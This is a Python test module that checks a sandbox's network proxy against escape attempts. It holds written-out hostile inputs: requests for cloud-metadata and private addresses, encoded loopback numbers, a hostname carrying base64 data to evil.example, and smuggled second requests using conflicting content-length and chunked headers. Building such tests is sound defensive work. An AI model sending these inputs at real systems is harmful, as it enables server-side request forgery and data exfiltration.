"""What tries to reach, through the one proxy that a policy opens, what the policy does not.

What this file is: cases with a network policy of their own, and servers and a resolver of ours to look from outside.
What it is not: attempts without a policy, when there is no network at all; see `escapes`.
"""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from burnish.sandbox.abuse.case import LONG, Case, Ground, check, printed
from burnish.sandbox.local import LocalSandboxes
from burnish.sandbox.policy import OPEN_WEB, AccessPolicy, Rule
from burnish.sandbox.proxy import PORT
from burnish.sandbox.verdicts import Arbiter
from burnish.types import Result

_ASK = f"""
import socket, sys
for text in sys.argv[1:]:
    with socket.create_connection(("127.0.0.1", {PORT})) as out:
        out.sendall(text.encode().decode("unicode_escape").encode("latin-1"))
        answer = b""
        while piece := out.recv(4096):
            answer += piece
    print(answer.split(b" ")[1].decode() if answer.startswith(b"HTTP/1.1 ") else repr(answer))
"""


@dataclass
class Outside:
    """A server of ours on the loopback device, and a resolver; both remember what reached them."""

    heard: list[bytes] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)
    port: int = 0

    async def resolve(self, host: str, port: int) -> Sequence[str]:
        self.asked.append(host)
        return ["127.0.0.1"]

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append(await reader.read(1 << 16))
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
        writer.close()


@asynccontextmanager
async def outside() -> AsyncIterator[Outside]:
    made = Outside()
    server = await asyncio.start_server(made.serve, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    try:
        yield made
    finally:
        server.close()


async def _asks(policy: AccessPolicy, world: Outside, *texts: str) -> Result:
    """What the proxy answers a program that sends it these texts, each on a connection of its own."""
    async with (
        LocalSandboxes(arbiter=Arbiter(policy), resolver=world.resolve) as own,
        await own.open() as sandbox,
    ):
        return await sandbox.run(["python3", "-c", _ASK, *texts], limits=LONG)


def _get(host: str) -> str:
    return f"GET http://{host}/ HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n"


async def private_addresses(ground: Ground) -> str:
    hosts = (
        "169.254.169.254", "127.0.0.1", "10.0.0.1", "192.168.0.1", "100.64.0.1", "0.0.0.0", "224.0.0.1", "[::1]",
        "[fd00::1]", "[fe80::1]", "[::ffff:127.0.0.1]", "[64:ff9b::a9fe:a9fe]", "[2002:7f00:1::]",
    )  # fmt: skip
    async with outside() as world:
        printed(await _asks(OPEN_WEB, world, *map(_get, hosts)), *[403] * len(hosts))
        check(not world.asked, world.asked)
    return f"{len(hosts)} addresses refused"


async def numbers_for_addresses(ground: Ground) -> str:
    hosts = ("2852039166", "0x7f000001", "0x7f.1", "127.1", "017700000001")
    async with outside() as world:
        printed(await _asks(OPEN_WEB, world, *map(_get, hosts)), *[400] * len(hosts))
        check(not world.asked, world.asked)
    return "taken for no host"


async def name_that_leads_home(ground: Ground) -> str:
    async with outside() as world:
        printed(await _asks(OPEN_WEB, world, _get("rebound.example")), 403)
        check(world.asked == ["rebound.example"] and not world.heard, world)
    return "the address is not public"


async def name_that_carries_data(ground: Ground) -> str:
    policy = AccessPolicy("one host", (Rule("network", "good.example:80", "allow"),))
    async with outside() as world:
        printed(
            await _asks(policy, world, _get("c2VjcmV0.evil.example"), _get("good.example.evil.example")),
            403,
            403,
        )
        check(not world.asked, world.asked)
    return "denied before it was looked up"


async def second_request(ground: Ground) -> str:
    """Behind one allowed request, another one for a host that is served at the same address."""
    async with outside() as world:
        rule = Rule("network", f"good.example:{world.port}", "allow")
        policy = AccessPolicy("one host", (rule,), private=("127.0.0.0/8",))
        inner = "GET / HTTP/1.1\\r\\nhost: evil.example\\r\\n\\r\\n"
        place = f"http://good.example:{world.port}/"
        plain = f"GET {place} HTTP/1.1\\r\\nhost: evil.example\\r\\n\\r\\n{inner}"
        mixed = f"POST {place} HTTP/1.1\\r\\ncontent-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n"
        mixed += f"0\\r\\n\\r\\n{inner}"
        printed(await _asks(policy, world, plain, mixed), 200, 400)
        check(len(world.heard) == 1 and b"evil" not in world.heard[0], world.heard)
    return "one request a connection, for the host decided on"


async def other_greeting(ground: Ground) -> str:
    """A tunnel to an allowed host, in which a TLS client greets another one that lives at the same address."""
    text = (
        "import socket, ssl, sys\nout = socket.create_connection(('127.0.0.1', {proxy}))\n"
        "out.sendall(b'CONNECT good.example:{port} HTTP/1.1\\r\\n\\r\\n')\n"
        "print(out.recv(4096).split(b' ')[1].decode())\n"
        "context = ssl.create_default_context()\n"
        "try: context.wrap_socket(out, server_hostname='evil.example')\nexcept OSError: print('closed')"
    )
    async with outside() as world:
        rule = Rule("network", f"good.example:{world.port}", "allow")
        policy = AccessPolicy("one host", (rule,), private=("127.0.0.0/8",))
        async with (
            LocalSandboxes(arbiter=Arbiter(policy), resolver=world.resolve) as own,
            await own.open() as sandbox,
        ):
            program = text.format(proxy=PORT, port=world.port)
            printed(await sandbox.run(["python3", "-c", program], limits=LONG), 200, "closed")
        check(not any(world.heard), world.heard)
    return "closed before a byte went out"


async def around_the_proxy(ground: Ground) -> str:
    """With a proxy there is still no route but to it."""
    with socket.socket() as host:
        host.bind(("127.0.0.1", 0))
        host.listen()
        text = "import socket\n"
        text += f"for place in (('1.1.1.1', 443), ('169.254.169.254', 80), {host.getsockname()!r}):\n"
        text += "    try: socket.create_connection(place, 5); print('connected')\n"
        text += "    except OSError as error: print('no')"
        async with LocalSandboxes(arbiter=Arbiter(OPEN_WEB)) as own, await own.open() as sandbox:
            printed(await sandbox.run(["python3", "-c", text], limits=LONG), *["no"] * 3)
    return "no route"


CASES = (
    Case(26, "private addresses through the proxy", "network policy", private_addresses),
    Case(26, "numbers for addresses", "network policy", numbers_for_addresses),
    Case(26, "a name that leads home", "network policy", name_that_leads_home),
    Case(26, "a second request", "network policy", second_request),
    Case(26, "another greeting", "network policy", other_greeting),
    Case(26, "around the proxy", "network namespace", around_the_proxy),
    Case(27, "a name that carries data", "network policy", name_that_carries_data),
)
